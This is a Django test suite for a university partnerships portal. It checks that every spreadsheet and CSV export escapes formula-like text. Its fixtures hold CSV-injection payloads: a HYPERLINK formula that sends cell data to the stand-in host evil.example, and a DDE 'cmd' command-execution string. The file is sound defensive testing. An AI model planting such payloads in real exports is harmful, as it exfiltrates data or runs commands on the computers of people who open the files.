"""No text anyone types becomes a live formula in a spreadsheet the portal writes: every export is found and read."""

import datetime
import io
import re
from pathlib import Path

import openpyxl
import pytest
from django.conf import settings
from django.contrib import admin
from import_export import resources
from import_export.admin import ExportMixin
from import_export.formats.base_formats import CSV, XLSX

from config.spreadsheets import SafeResource, spreadsheet_safe, spreadsheet_value
from mobility import exports
from mobility.models import Application, Mobility
from partnerships.admin import PartnerResource
from partnerships.models import Partner
from tests.factories import AgreementFactory, ApplicationFactory, PartnerFactory, UserFactory

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
HOSTILE = [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"]
APPS = ["config", "accounts", "notifications", "partnerships", "visits", "mobility", "api"]
WRITES_SPREADSHEETS = re.compile(r"\bWorkbook\(|csv\.writer|csv\.DictWriter|from import_export|import tablib")


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_starts_like_a_formula_is_marked_as_text_and_read_back_unchanged(text):
    safe = spreadsheet_safe(text)

    assert safe == "'" + text
    assert spreadsheet_value(safe) == text


@pytest.mark.parametrize("value", ["Xinjiang University", "-12", "+7.5", "", 42, -3, None, "O'Brien"])
def test_plain_values_and_signed_numbers_pass_unchanged(value):
    assert spreadsheet_safe(value) == value
    assert spreadsheet_value(value) == value


def portal_sources():
    for app in APPS:
        for path in (Path(settings.BASE_DIR) / app).rglob("*.py"):
            if "migrations" not in path.parts:
                yield path


def test_every_module_that_writes_a_spreadsheet_escapes_through_the_one_helper():
    writers = [path for path in portal_sources() if WRITES_SPREADSHEETS.search(path.read_text())]
    unsafe = [
        str(path.relative_to(settings.BASE_DIR))
        for path in writers
        if path.name != "spreadsheets.py" and not re.search(r"\b(spreadsheet_safe|SafeResource)\b", path.read_text())
    ]

    assert {path.name for path in writers} >= {"exports.py", "admin.py"}  # the finder finds the known ones
    assert unsafe == []


def every_resource(base=resources.ModelResource):
    for subclass in base.__subclasses__():
        yield subclass
        yield from every_resource(subclass)


def test_every_import_export_resource_of_the_portal_escapes_its_cells():
    portal = [cls for cls in every_resource() if cls.__module__.split(".")[0] in APPS and cls is not SafeResource]

    assert len(portal) >= 4
    assert [cls.__name__ for cls in portal if not issubclass(cls, SafeResource)] == []


def hostile_world():
    partner = PartnerFactory(name_en=EVIL, name=EVIL, name_ru=EVIL, name_kk=EVIL, name_zh_hans=EVIL)
    AgreementFactory(partners=[partner], title=EVIL, title_en=EVIL)
    applicant = UserFactory(full_name=EVIL, email="evil@kopir.example")
    ApplicationFactory(applicant=applicant, choices=[partner])
    Mobility.objects.create(
        participant_name=EVIL,
        direction=Mobility.Direction.OUTGOING,
        partner=partner,
        mobility_type="semester",
        starts_on=datetime.date(2027, 2, 1),
        ends_on=datetime.date(2027, 6, 30),
    )
    return partner


def cells_of_xlsx(content):
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None]


def test_every_admin_export_writes_hostile_names_as_text_in_xlsx_and_csv(rf):
    hostile_world()
    superuser = UserFactory(is_staff=True, is_superuser=True)
    request = rf.get("/")
    request.user = superuser
    exported = []

    for model, model_admin in admin.site._registry.items():
        if not isinstance(model_admin, ExportMixin):
            continue
        for resource_class in model_admin.get_export_resource_classes(request):
            cells = cells_of_xlsx(XLSX().export_data(resource_class().export(model.objects.all())))
            text = CSV().export_data(resource_class().export(model.objects.all()))
            exported.append(model)

            assert any(EVIL[1:] in str(cell.value) for cell in cells), model
            assert [cell.coordinate for cell in cells if cell.data_type == "f"] == [], model
            assert not any(str(cell.value).startswith("=") for cell in cells), model
            assert not re.search(r"(^|,)=", text, re.MULTILINE), model

    assert {Partner, Application, Mobility} <= set(exported)


def test_the_nominee_list_writes_a_hostile_name_as_text():
    partner = hostile_world()
    application = Application.objects.select_related("applicant", "faculty", "call").get()

    content, _type, _extension = exports.nominee_list(application.call, partner, [application], fmt="xlsx")

    cells = cells_of_xlsx(content)
    assert "'" + EVIL in [cell.value for cell in cells]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []


def test_an_exported_partner_imports_back_with_its_name_unchanged():
    partner = PartnerFactory(name_en=EVIL, name=EVIL)
    dataset = PartnerResource().export(Partner.objects.all())
    Partner.objects.all().delete()

    result = PartnerResource().import_data(dataset, dry_run=False, raise_errors=True)

    assert not result.has_errors()
    assert Partner.objects.get(slug=partner.slug).name_en == EVIL
